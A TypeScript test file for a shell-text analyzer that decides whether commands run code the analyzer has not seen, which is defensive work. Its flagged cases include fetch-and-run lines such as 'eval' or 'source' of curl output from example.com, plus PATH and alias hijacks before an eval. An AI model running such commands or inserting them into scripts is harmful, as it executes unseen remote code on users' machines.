import { describe, expect, test } from 'vitest';
import { readShellText } from './read.js';

/** Is there text that is executed and was not seen? */
function hidesCode(text: string): boolean {
  return readShellText(text, { cwd: '/home/u/p', home: '/home/u' }).unknowns.some(({ executes }) => executes === true);
}

describe('what a program prints to set up a shell counts as running that program', () => {
  test.each([
    'eval "$(ssh-agent -s)"',
    'eval `ssh-agent`',
    'eval $(minikube -p dev docker-env)',
    'eval "$(direnv hook bash)"',
    'eval "$(/opt/homebrew/bin/brew shellenv)"',
    'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"',
    'export PATH="$HOME/.pyenv/bin:$PATH"; eval "$(pyenv init -)"; eval "$(pyenv virtualenv-init -)"',
    'eval "$(fnm env --use-on-cd 2>/dev/null)"',
    'eval "$(conda shell.bash hook)"',
    'eval "$(docker-machine env "$NAME")"',
    'eval "$(acmectl docker-env)"',
    'source <(kubectl completion bash)',
  ])('%s', (text) => {
    expect(hidesCode(text)).toBe(false);
    expect(readShellText(text).unknowns.length).toBeGreaterThan(0);
  });
});

describe('text from a file, a host, a variable or the project is still not seen', () => {
  test.each([
    'eval "$(./x env)"',
    'eval "$(bin/tool init -)"',
    'eval "$(curl -s https://example.com/env)"',
    'eval "$(curl -s https://example.com/a env)"',
    'eval "$(cat env)"',
    'eval "$(echo "$X" env)"',
    'eval "$X"',
    'eval "$($X env)"',
    'eval "$(python3 gen.py env)"',
    'eval "$(npm run env)"',
    'eval "$(poetry run env)"',
    'eval "$(acmectl get env)"',
    'eval "$(make env)"',
    'eval "$(ssh host env)"',
    'eval "$(git show HEAD:env)"',
    'eval "$(curl -s https://example.com | tool env)"',
    'eval "$(tool env < in)"',
    'eval "$(tool env; curl -s https://example.com)"',
    'eval "$(brew shellenv); $X"',
    'eval "$(brew shellenv)$(curl -s https://example.com)"',
    'tool() { curl -s https://example.com; }; eval "$(tool env)"',
    'alias tool=\'curl https://example.com\'\neval "$(tool env)"',
    'PATH=$PWD/bin:$PATH; eval "$(tool env)"',
    'PATH=/tmp/x:$PATH; eval "$(brew shellenv)"',
    'PATH=./bin:$PATH eval "$(tool env)"',
    'source <(curl -s https://example.com/completion)',
  ])('%s', (text) => expect(hidesCode(text)).toBe(true));
});
